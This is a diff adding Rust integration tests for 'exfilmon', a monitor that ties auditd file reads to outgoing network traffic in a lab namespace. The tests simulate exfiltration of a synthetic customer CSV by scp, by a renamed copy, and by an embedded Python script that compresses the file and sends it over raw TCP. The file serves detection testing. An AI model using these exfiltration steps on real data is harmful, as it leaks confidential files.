@@ -1,0 +1,395 @@
+//! Sensitive files end to end: the real kernel audit trail and auditd, the project's own watch
+//! rules, real users reading a watched CSV and sending data out of a network namespace, and
+//! `exfilmon run --audit-log` tying the two together. The owner's question — "did anyone copy
+//! the file out?" — as one test per case: scp of the file; cp to an innocuous name, then scp;
+//! a Python script that compresses it and sends it over TCP; and the innocent cases: a user who
+//! reads it for analysis and sends nothing, a user who reads it and runs a short ssh command.
+//!
+//! Needs root, auditd (Debian package `auditd`) and the lab's tools; without them each test
+//! skips with a printed reason, and under CI=true a skip fails. auditd is started here with its
+//! own configuration and log in a temporary directory (a stale one from an earlier run of these
+//! tests is stopped first); an auditd already running for the system is used as it is. Rules
+//! carry a key unique to the test process and are deleted at the end, also on failure.
+//!
+//! The replay tests at the bottom need nothing: they run on pcaps/sensitive/, recorded by
+//! pcaps/sensitive.sh with the same scenarios.
+//!
+//! Run: `sudo -E cargo test --test sensitive -- --nocapture`
+
+#[path = "live/lab.rs"]
+#[allow(dead_code)] // helpers the other live tests use
+mod lab;
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+
+use lab::{must, report, run, skip, wait_for, Lab, Monitor, EXFILMON, USERS};
+use serde_json::Value;
+
+/// Marks auditd processes started by these tests (their config directory's name).
+const AUDITD_MARK: &str = "exfmon-auditd";
+/// The CSV's size: a threshold of a quarter is 512 KiB, far above a short ssh command.
+const CSV_BYTES: usize = 2 << 20;
+
+/// auditd for one test: started here (own config and log) or the system's, and the rules.
+struct Auditd {
+    child: Option<Child>,
+    log: PathBuf,
+    key: String,
+    /// `auditctl -s` said `enabled 0` before: switched back at the end.
+    was_disabled: bool,
+    _dir: Option<tempfile::TempDir>,
+}
+
+fn status_field(status: &str, name: &str) -> Option<i64> {
+    status.lines().find_map(|l| l.strip_prefix(name)?.trim().parse().ok())
+}
+
+impl Auditd {
+    fn start(key: &str) -> Option<Auditd> {
+        let status = run(&["sh", "-c", "command -v auditd >/dev/null && auditctl -s"]);
+        if !status.status.success() {
+            skip(&format!(
+                "auditd/auditctl missing or the kernel audit subsystem unavailable (apt-get install auditd): {}",
+                String::from_utf8_lossy(&status.stderr).trim()
+            ));
+            return None;
+        }
+        let status = String::from_utf8_lossy(&status.stdout).into_owned();
+        let was_disabled = status_field(&status, "enabled") == Some(0);
+        let pid = status_field(&status, "pid").unwrap_or(0);
+        let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+        let running = pid > 0 && !cmdline.is_empty();
+        if running && String::from_utf8_lossy(&cmdline).contains(AUDITD_MARK) {
+            // Left behind by an earlier run of these tests (killed before its cleanup).
+            must(&["kill", &pid.to_string()]);
+            wait_for(Duration::from_secs(10), "the stale auditd to exit", || !Path::new(&format!("/proc/{pid}")).exists());
+        } else if running {
+            let conf = fs::read_to_string("/etc/audit/auditd.conf").unwrap_or_default();
+            let log = conf
+                .lines()
+                .find_map(|l| Some(l.split_once('=')?).filter(|(k, _)| k.trim() == "log_file").map(|(_, v)| v.trim().to_string()))
+                .unwrap_or_else(|| "/var/log/audit/audit.log".into());
+            eprintln!("using the system's auditd (pid {pid}), log {log}");
+            return Some(Auditd { child: None, log: log.into(), key: key.into(), was_disabled, _dir: None });
+        }
+        let dir = tempfile::Builder::new().prefix(AUDITD_MARK).tempdir().unwrap();
+        let log = dir.path().join("audit.log");
+        fs::write(
+            dir.path().join("auditd.conf"),
+            format!(
+                "local_events = yes\nwrite_logs = yes\nlog_file = {}\nlog_format = ENRICHED\nflush = INCREMENTAL_ASYNC\n\
+                 freq = 50\nmax_log_file = 8\nnum_logs = 2\nmax_log_file_action = ROTATE\nname_format = NONE\n\
+                 space_left = 75\nspace_left_action = SYSLOG\nadmin_space_left = 50\nadmin_space_left_action = SYSLOG\n\
+                 disk_full_action = SYSLOG\ndisk_error_action = SYSLOG\nend_of_event_timeout = 2\n",
+                log.display()
+            ),
+        )
+        .unwrap();
+        fs::set_permissions(dir.path().join("auditd.conf"), fs::Permissions::from_mode(0o640)).unwrap();
+        let child = Command::new("auditd")
+            .args(["-n", "-c"])
+            .arg(dir.path())
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(fs::File::create(dir.path().join("auditd.err")).unwrap())
+            .spawn()
+            .unwrap();
+        let me = child.id() as i64;
+        let d = Auditd { child: Some(child), log: log.clone(), key: key.into(), was_disabled, _dir: Some(dir) };
+        wait_for(Duration::from_secs(15), "auditd to register with the kernel", || {
+            status_field(&must(&["auditctl", "-s"]), "pid") == Some(me) && log.exists()
+        });
+        Some(d)
+    }
+
+    /// Loads the rules `exfilmon audit-rules` prints for `config`.
+    fn load_rules(&self, config: &Path, dir: &Path) {
+        let rules = must(&[EXFILMON, "audit-rules", "--config", config.to_str().unwrap()]);
+        assert!(rules.contains(&format!("-p r -k {}", self.key)), "{rules}");
+        let file = dir.join("exfilmon.rules");
+        fs::write(&file, rules).unwrap();
+        must(&["auditctl", "-R", file.to_str().unwrap()]);
+        assert!(must(&["auditctl", "-l"]).contains(&self.key));
+    }
+}
+
+impl Drop for Auditd {
+    fn drop(&mut self) {
+        let _ = run(&["auditctl", "-D", "-k", &self.key]);
+        if let Some(c) = &mut self.child {
+            let _ = run(&["kill", &c.id().to_string()]);
+            let _ = c.wait();
+        }
+        if self.was_disabled {
+            let _ = run(&["auditctl", "-e", "0"]);
+        }
+    }
+}
+
+/// Everything one case needs: the lab with sshd, auditd with the rules, the monitor.
+/// Fields drop in order: the monitor, then auditd and its rules, then the lab (releasing the
+/// lab lock only when this test's auditd is gone).
+struct Setup {
+    monitor: Option<Monitor>,
+    audit: Auditd,
+    lab: Lab,
+    ssh: Vec<String>,
+    csv: PathBuf,
+    db: PathBuf,
+}
+
+impl Setup {
+    fn new(apply: bool) -> Option<Setup> {
+        let mut lab = Lab::new()?;
+        let key = format!("exfmon-t{}", std::process::id());
+        let audit = Auditd::start(&key)?;
+        let ssh = lab.start_sshd();
+        let data = lab.path("data");
+        fs::create_dir_all(&data).unwrap();
+        fs::set_permissions(&data, fs::Permissions::from_mode(0o755)).unwrap();
+        let csv = data.join("sensitive1.csv");
+        fs::write(&csv, csv_text(CSV_BYTES)).unwrap();
+        fs::set_permissions(&csv, fs::Permissions::from_mode(0o644)).unwrap();
+        let cfg = lab.path("exfilmon.toml");
+        fs::write(
+            &cfg,
+            format!("[nft]\naudit = true\n[sensitive]\npaths = [\"{}\"]\naudit_key = \"{key}\"\nwindow = \"30m\"\n", csv.display()),
+        )
+        .unwrap();
+        if apply {
+            let out = run(&[EXFILMON, "audit-rules", "--apply", "--config", cfg.to_str().unwrap()]);
+            let said = String::from_utf8_lossy(&out.stderr).into_owned();
+            assert!(out.status.success(), "audit-rules --apply: {said}");
+            assert!(said.contains("wrote /etc/audit/rules.d/exfilmon.rules") && said.contains("loaded"), "{said}");
+            assert!(must(&["auditctl", "-l"]).contains(&key), "rules loaded");
+            let out = run(&[EXFILMON, "audit-rules", "--remove", "--config", cfg.to_str().unwrap()]);
+            assert!(out.status.success(), "audit-rules --remove: {}", String::from_utf8_lossy(&out.stderr));
+            assert!(!must(&["auditctl", "-l"]).contains(&key), "rules removed");
+            assert!(!Path::new("/etc/audit/rules.d/exfilmon.rules").exists());
+            // augenrules --load reset auditd's settings and rules: the test's own again.
+        }
+        audit.load_rules(&cfg, lab.dir.path());
+        let db = lab.path("live.db");
+        let monitor = start_monitor(&lab, &cfg, &db, &audit.log);
+        lab.load_ruleset(&cfg);
+        Some(Setup { monitor: Some(monitor), audit, lab, ssh, csv, db })
+    }
+
+    fn scp(&self, user: &str, file: &Path) {
+        let key = self.lab.path(user).join("id");
+        let dest = format!("{user}@{}:{}", self.lab.peer, self.lab.path("recv").join(format!("{user}.out")).display());
+        let mut args = vec!["scp", "-q"];
+        args.extend(self.ssh.iter().map(String::as_str));
+        args.extend(["-i", key.to_str().unwrap(), file.to_str().unwrap(), &dest]);
+        self.lab.as_user(user, &args);
+    }
+
+    fn ssh_true(&self, user: &str) {
+        let key = self.lab.path(user).join("id");
+        let host = format!("{user}@{}", self.lab.peer);
+        let mut args = vec!["ssh"];
+        args.extend(self.ssh.iter().map(String::as_str));
+        args.extend(["-i", key.to_str().unwrap(), &host, "true"]);
+        self.lab.as_user(user, &args);
+    }
+
+    fn alerts(&self, kind: &str) -> Vec<Value> {
+        report(&self.db, "alerts").as_array().unwrap().iter().filter(|a| a["kind"] == kind).cloned().collect()
+    }
+
+    /// Waits for the monitor to have stored `user`'s read of the file.
+    fn wait_read(&self, user: &str) {
+        let uid = Lab::uid(user);
+        wait_for(Duration::from_secs(15), "the read in report files", || {
+            report(&self.db, "files").as_array().unwrap().iter().any(|r| r["fsuid"] == uid)
+        });
+    }
+
+    /// Stops the monitor (flushing everything) and returns `report files` and all alerts.
+    fn finish(&mut self) -> (Vec<Value>, Vec<Value>) {
+        // NFLOG batches for up to the ruleset's timeout; the audit log is polled every tick.
+        std::thread::sleep(Duration::from_millis(1500));
+        let (status, log) = self.monitor.take().unwrap().stop();
+        assert!(status.success(), "{log}");
+        let files = report(&self.db, "files").as_array().unwrap().clone();
+        let alerts = report(&self.db, "alerts").as_array().unwrap().clone();
+        (files, alerts)
+    }
+
+    /// The one sensitive_egress alert: checks what it names.
+    fn check_alert(&self, user: &str, exe: &str, dst: &str) -> Value {
+        let uid = Lab::uid(user);
+        let start = std::time::Instant::now();
+        while self.alerts("sensitive_egress").is_empty() {
+            assert!(
+                start.elapsed() < Duration::from_secs(15),
+                "no sensitive_egress alert within 15 s; files: {:#}\nusers: {:#}\naudit records: {}",
+                report(&self.db, "files"),
+                report(&self.db, "users"),
+                fs::read_to_string(&self.audit.log).unwrap_or_default().lines().filter(|l| l.contains(&self.audit.key)).count()
+            );
+            std::thread::sleep(Duration::from_millis(100));
+        }
+        let alerts = self.alerts("sensitive_egress");
+        assert_eq!(alerts.len(), 1, "{alerts:#?}");
+        let a = &alerts[0];
+        assert_eq!((a["uid"].as_u64(), a["user"].as_str()), (Some(uid.into()), Some(user)), "{a:#}");
+        assert_eq!(a["dst"], dst, "{a:#}");
+        assert!(a["bytes"].as_u64().unwrap() >= (CSV_BYTES / 4) as u64, "{a:#}");
+        let file = &a["details"]["files"][0];
+        assert_eq!(file["path"], self.csv.to_str().unwrap(), "{a:#}");
+        assert!(file["exe"].as_str().unwrap().contains(exe), "{a:#}");
+        assert_eq!(file["size"], CSV_BYTES, "{a:#}");
+        let summary = a["summary"].as_str().unwrap();
+        assert!(summary.contains(self.csv.to_str().unwrap()) && summary.contains(exe), "{summary}");
+        a.clone()
+    }
+}
+
+fn start_monitor(lab: &Lab, cfg: &Path, db: &Path, audit_log: &Path) -> Monitor {
+    let log = lab.path("monitor.log");
+    let child = Command::new("ip")
+        .args(["netns", "exec", &lab.inside, EXFILMON, "run", "--config"])
+        .arg(cfg)
+        .arg("--db")
+        .arg(db)
+        .arg("--audit-log")
+        .arg(audit_log)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(fs::File::create(&log).unwrap())
+        .spawn()
+        .unwrap();
+    let m = Monitor { child, log };
+    wait_for(Duration::from_secs(10), "the monitor to bind its group", || {
+        fs::read_to_string(&m.log).unwrap_or_default().contains("monitoring NFLOG group")
+    });
+    m
+}
+
+/// A customer table: ids, names, e-mail addresses, amounts, dates and a token per row, so it
+/// compresses the way real CSV does (zlib + base85 to about a third or more).
+fn csv_text(bytes: usize) -> String {
+    let names = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"];
+    let mut out = String::from("id,name,email,amount,date,token\n");
+    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
+    let mut i = 0;
+    while out.len() < bytes {
+        x ^= x << 13;
+        x ^= x >> 7;
+        x ^= x << 17;
+        let n = names[(x % 10) as usize];
+        out.push_str(&format!(
+            "{i},{n} {},{n}.{}@example.com,{}.{:02},2026-{:02}-{:02},{:016x}\n",
+            names[(x >> 8) as usize % 10],
+            x % 997,
+            x % 100_000,
+            x % 100,
+            x % 12 + 1,
+            x % 28 + 1,
+            x.rotate_left(17)
+        ));
+        i += 1;
+    }
+    out.truncate(bytes);
+    out
+}
+
+/// The owner's first case: `scp /data/sensitive1.csv elsewhere:`. The rules are installed with
+/// `exfilmon audit-rules --apply` (and removed with --remove) here, once.
+#[test]
+fn scp_of_the_file_names_file_user_program_destination_and_bytes() {
+    let Some(mut s) = Setup::new(true) else { return };
+    let user = USERS[0];
+    s.scp(user, &s.csv);
+    let dst = format!("{}:22/tcp", s.lab.peer);
+    s.check_alert(user, "/usr/bin/scp", &dst);
+    let (files, alerts) = s.finish();
+    let row = files.iter().find(|r| r["user"] == user).expect("the read is in report files");
+    assert_eq!(row["file"], s.csv.to_str().unwrap());
+    assert_eq!(row["program"], "/usr/bin/scp");
+    assert!(row["sent_after"].as_u64().unwrap() >= CSV_BYTES as u64 / 4, "{row:#}");
+    assert!(row["destinations"].as_str().unwrap().contains(&dst), "{row:#}");
+    assert_eq!(row["alerts"], 1);
+    // The audit trail's NETFILTER_PKT records matched what NFLOG delivered.
+    assert!(alerts.iter().all(|a| a["kind"] != "audit_mismatch"), "{alerts:#?}");
+}
+
+/// Copied to an innocuous name in the home directory first, then sent: the read was of the
+/// sensitive file (by cp), the egress by the same user.
+#[test]
+fn cp_to_an_innocuous_name_then_scp_is_still_tied_to_the_file() {
+    let Some(mut s) = Setup::new(false) else { return };
+    let user = USERS[0];
+    let copy = s.lab.path(user).join("notes.txt");
+    s.lab.as_user(user, &["cp", s.csv.to_str().unwrap(), copy.to_str().unwrap()]);
+    s.scp(user, &copy);
+    s.check_alert(user, "/usr/bin/cp", &format!("{}:22/tcp", s.lab.peer));
+    s.finish();
+}
+
+/// A script of the user's own: reads the file, compresses it (zlib + base85, about a third
+/// of its size) and sends it over a plain TCP connection to a port nobody watches.
+#[test]
+fn python_script_compressing_and_sending_over_tcp_is_caught() {
+    let Some(mut s) = Setup::new(false) else { return };
+    let user = USERS[1];
+    let peer = s.lab.peer.clone();
+    let outside = s.lab.outside.clone();
+    s.lab.spawn_in(&outside, &["socat", "-u", &format!("TCP-LISTEN:9000,bind={peer},reuseaddr,fork"), "OPEN:/dev/null"], "sink.log");
+    wait_for(Duration::from_secs(10), "the TCP sink", || {
+        !must(&["ip", "netns", "exec", &outside, "ss", "-Hlnt", "sport = :9000"]).trim().is_empty()
+    });
+    let script = s.lab.path("send.py");
+    fs::write(
+        &script,
+        "import base64, socket, sys, zlib\n\
+         data = base64.b85encode(zlib.compress(open(sys.argv[1], 'rb').read(), 9))\n\
+         print(len(data))\n\
+         with socket.create_connection((sys.argv[2], 9000)) as s:\n    s.sendall(data)\n",
+    )
+    .unwrap();
+    fs::set_permissions(&script, fs::Permissions::from_mode(0o644)).unwrap();
+    let sent: usize = s.lab.as_user(user, &["python3", script.to_str().unwrap(), s.csv.to_str().unwrap(), &peer]).trim().parse().unwrap();
+    eprintln!("zlib + base85: {sent} bytes of {CSV_BYTES} ({:.0}%)", 100.0 * sent as f64 / CSV_BYTES as f64);
+    s.check_alert(user, "python3", &format!("{peer}:9000/tcp"));
+    s.finish();
+}
+
+/// Reading the file for analysis and sending nothing: the read is reported, nothing alerts.
+#[test]
+fn reading_for_analysis_and_sending_nothing_raises_no_alert() {
+    let Some(mut s) = Setup::new(false) else { return };
+    let user = USERS[1];
+    s.lab.as_user(user, &["wc", "-l", s.csv.to_str().unwrap()]);
+    s.lab.as_user(
+        user,
+        &["python3", "-c", "import csv,sys; print(sum(float(r['amount']) for r in csv.DictReader(open(sys.argv[1]))))", s.csv.to_str().unwrap()],
+    );
+    s.wait_read(user);
+    let (files, alerts) = s.finish();
+    assert!(alerts.iter().all(|a| a["kind"] != "sensitive_egress"), "{alerts:#?}");
+    let rows: Vec<&Value> = files.iter().filter(|r| r["user"] == user).collect();
+    assert_eq!(rows.len(), 2, "wc and python: {files:#?}");
+    assert!(rows.iter().all(|r| r["sent_after"] == 0), "{rows:#?}");
+}
+
+/// Reading it, then a short ssh command: a few KiB out, far below a quarter of the file.
+#[test]
+fn reading_then_a_short_ssh_command_raises_no_alert() {
+    let Some(mut s) = Setup::new(false) else { return };
+    let user = USERS[0];
+    s.lab.as_user(user, &["head", "-n", "20", s.csv.to_str().unwrap()]);
+    s.ssh_true(user);
+    s.wait_read(user);
+    let (files, alerts) = s.finish();
+    assert!(alerts.iter().all(|a| a["kind"] != "sensitive_egress"), "{alerts:#?}");
+    let row = files.iter().find(|r| r["user"] == user).unwrap();
+    let sent = row["sent_after"].as_u64().unwrap();
+    assert!(sent > 0 && sent < 16 << 10, "a short ssh command sends a few KiB: {row:#}");
+    assert_eq!(row["program"], "/usr/bin/head");
+}
